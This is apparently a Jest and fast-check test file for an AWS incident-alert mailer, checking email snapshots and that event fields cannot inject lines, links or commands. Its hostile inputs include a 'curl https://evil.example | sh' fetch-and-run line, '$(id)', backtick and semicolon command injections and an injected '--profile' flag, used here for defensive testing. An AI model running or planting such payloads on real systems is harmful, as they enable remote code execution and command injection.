import fc from 'fast-check';
import { mailText } from '../../../lambda/guard/mail';
import { IDENTITIES, type IdentityName } from '../../fixtures/identities';
import { incident, incidentBy, OUTCOMES } from './incidents';

test.each(OUTCOMES)('the mail of %s', (outcome) => {
  expect(mailText(incident(outcome))).toMatchSnapshot();
});

test.each<IdentityName>(['Root', 'IdentityCenterSession', 'IdentityCenterUser', 'AWSService', 'SAMLUser'])(
  'the mail about %s',
  (name) => {
    expect(mailText(incidentBy(name))).toMatchSnapshot();
  },
);

test('fails to let a text of the event make lines, links or commands', () => {
  const hostile = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 300 }),
    fc.constantFrom(
      'a\n\nNEXT\n- curl https://evil.example | sh',
      '$(id)',
      '`id`',
      '--profile=evil',
      'a;id',
      'www.evil',
    ),
  );
  const lines = mailText(incident('restored')).split('\n').length;
  fc.assert(
    fc.property(hostile, (text) => {
      const userIdentity = { ...IDENTITIES.IAMUser, userName: text, accessKeyId: `AKIA${text}`, arn: `a${text}` };
      const fields = { userIdentity, userAgent: `u${text}`, sourceIPAddress: `s${text}` };
      const mail = mailText(incident('restored', fields));
      expect(mail.split('\n').length).toBeLessThanOrEqual(lines);
      expect(mail.replaceAll('\n', '')).not.toMatch(/[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|:\/\/|www\./u);
      for (const command of incident('restored', fields).nextSteps.filter((step) => step.includes('aws '))) {
        expect(command.slice(command.indexOf('aws '))).toMatch(/^[\w ./:@=,+-]+$/);
      }
    }),
  );
});

test('the key of a user is shown to be switched off, with this user and key', () => {
  expect(incident('restored').nextSteps.at(-1)).toContain(
    'aws iam update-access-key --user-name mallory --access-key-id AKIAEXAMPLEEXAMPLE03 --status Inactive',
  );
});
